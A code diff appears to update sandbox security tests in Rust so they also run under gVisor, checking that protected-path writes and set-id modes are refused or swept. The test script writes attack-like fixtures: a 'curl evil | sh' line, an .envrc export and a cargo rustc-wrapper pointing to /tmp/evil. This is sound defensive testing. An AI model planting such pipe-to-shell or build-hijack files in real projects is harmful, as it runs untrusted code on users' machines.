@@ -8,8 +8,6 @@
 //! the same step in a direct run is refused by the guard; the same apply writes an
 //! unflagged entry beside it, and the protected one once accepted (so without the flag it
 //! would reach the host); on the host the same step makes what the sandbox refuses.
-//!
-//! Not under gVisor: it refuses `--review` (`attacks::na::NO_REVIEW`).
 
 #![allow(clippy::expect_used)]
 
@@ -54,9 +52,6 @@ fn flags(fx: &Fixture, id: &str, path: &str) -> Vec<String> {
 /// (the flag is what held it); in a direct run the guard refuses each creation, reported.
 #[test]
 fn protected_paths_made_in_a_view_are_flagged_and_held_by_apply() {
-    if attacks::not_under("gvisor", attacks::na::NO_REVIEW) {
-        return;
-    }
     let script = "mkdir -p deploy .cargo; echo 'curl evil | sh' > deploy/run.sh; \
                   echo 'export PWNED=1' > .envrc; \
                   printf '[build]\\nrustc-wrapper = \"/tmp/evil\"\\n' > .cargo/config.toml; \
@@ -119,17 +114,23 @@ fn protected_paths_made_in_a_view_are_flagged_and_held_by_apply() {
     let mut all = records.opts();
     all.extend_from_slice(&opts);
     let direct = fx.sandbox(&all, script).run();
-    direct
-        .assert_success()
-        .assert_stdout_contains("made")
-        .assert_stderr_contains("Operation not permitted");
+    direct.assert_success().assert_stdout_contains("made");
+    let made = ["deploy/run.sh", ".envrc", ".cargo/config.toml"];
+    if attacks::creation_guarded() {
+        direct.assert_stderr_contains("Operation not permitted");
+        records.assert_blocked(&direct, &made);
+    } else {
+        // Without a creation guard (gVisor) the sweep after the run takes each out.
+        for p in made {
+            records.assert_swept(&direct, &[p]);
+        }
+    }
     for p in protected {
         assert!(
             std::fs::symlink_metadata(fx.ws.join(p)).is_err(),
             "{p} was made by a direct run"
         );
     }
-    records.assert_blocked(&direct, &["deploy/run.sh", ".envrc", ".cargo/config.toml"]);
     assert!(fx.ws.join("notes.txt").exists());
 }
 
@@ -140,7 +141,7 @@ fn protected_paths_made_in_a_view_are_flagged_and_held_by_apply() {
 /// on the host the same file is made.
 #[test]
 fn a_writable_root_beside_the_view_stays_mediated() {
-    if attacks::not_under("gvisor", attacks::na::NO_REVIEW) {
+    if attacks::not_under("gvisor", attacks::na::NO_CREATION_GUARD) {
         return;
     }
     let fx = Fixture::without_git();
@@ -200,19 +201,22 @@ fn a_writable_root_beside_the_view_stays_mediated() {
 /// Set-id bits stay refused in a view whose other creations are not mediated: `chmod u+s`
 /// and `chmod g+s` fail (EPERM, reported as in direct mode), an `open(O_CREAT)` or `mknod`
 /// asking for mode 04755 makes the file without the bits, and the change set holds no set-id
-/// bit. Control: the same steps on the host make set-id files.
+/// bit. Under gVisor the Sentry refuses all four (EPERM, not reported: its seccomp filter, as
+/// in direct mode). Control: the same steps on the host make set-id files.
 #[test]
 fn set_id_modes_stay_refused_in_a_view() {
-    if attacks::not_under("gvisor", attacks::na::NO_REVIEW) {
-        return;
-    }
     let Some(py) = attacks::python3("set-id modes in a view") else {
         return;
     };
     let fx = Fixture::without_git();
     let code = "import os, stat\n\
-                fd = os.open('opened', os.O_CREAT | os.O_WRONLY, 0o6755); os.close(fd)\n\
-                os.mknod('noded', 0o4755 | stat.S_IFREG)\n\
+                def opened(): os.close(os.open('opened', os.O_CREAT | os.O_WRONLY, 0o6755))\n\
+                def noded(): os.mknod('noded', 0o4755 | stat.S_IFREG)\n\
+                for make in (opened, noded):\n\
+                \x20   try:\n\
+                \x20       make()\n\
+                \x20   except PermissionError:\n\
+                \x20       print('make-refused', make.__name__)\n\
                 open('plain', 'w').close(); os.chmod('plain', 0o755)\n\
                 for name, mode in (('plain', 0o4755), ('plain', 0o2755)):\n\
                 \x20   try:\n\
@@ -220,7 +224,8 @@ fn set_id_modes_stay_refused_in_a_view() {
                 \x20   except PermissionError:\n\
                 \x20       print('chmod-refused', oct(mode))\n\
                 for name in ('opened', 'noded', 'plain'):\n\
-                \x20   print(name, oct(os.stat(name).st_mode & 0o7777))\n";
+                \x20   if os.path.exists(name):\n\
+                \x20       print(name, oct(os.stat(name).st_mode & 0o7777))\n";
     std::fs::write(fx.root.join("scripts/setid.py"), code).expect("write the script");
     let script = format!(
         "{} {}",
@@ -232,21 +237,28 @@ fn set_id_modes_stay_refused_in_a_view() {
     run.assert_stdout_contains("chmod-refused 0o4755")
         .assert_stdout_contains("chmod-refused 0o2755")
         .assert_lacks("chmod-allowed");
+    let guarded = attacks::creation_guarded();
     for name in ["opened", "noded", "plain"] {
-        let line = (run.stdout.lines())
-            .find(|l| l.starts_with(&format!("{name} ")))
-            .unwrap_or_else(|| panic!("{name}: {}", run.describe()));
+        let line = (run.stdout.lines()).find(|l| l.starts_with(&format!("{name} ")));
+        let refused = run.stdout.contains(&format!("make-refused {name}"));
+        let Some(line) = line else {
+            // Refused outright: the Sentry's way (native makes it without the bits).
+            assert!(refused && !guarded, "{name}: {}", run.describe());
+            continue;
+        };
         let mode = u32::from_str_radix(line.rsplit("0o").next().unwrap_or(""), 8).unwrap_or(0);
         assert_eq!(mode & 0o6000, 0, "{line}");
     }
-    let blocked = records.violations();
-    assert!(
-        blocked
-            .iter()
-            .any(|v| json_str(v, "kind") == "protected_path_blocked"
-                && json_str(v, "action").contains("chmod")),
-        "{blocked:#?}"
-    );
+    if guarded {
+        let blocked = records.violations();
+        assert!(
+            blocked
+                .iter()
+                .any(|v| json_str(v, "kind") == "protected_path_blocked"
+                    && json_str(v, "action").contains("chmod")),
+            "{blocked:#?}"
+        );
+    }
     for c in entries(&fx, &id) {
         let mode = c["mode"].as_u64().unwrap_or(0);
         assert_eq!(mode & 0o6000, 0, "{c:#}");
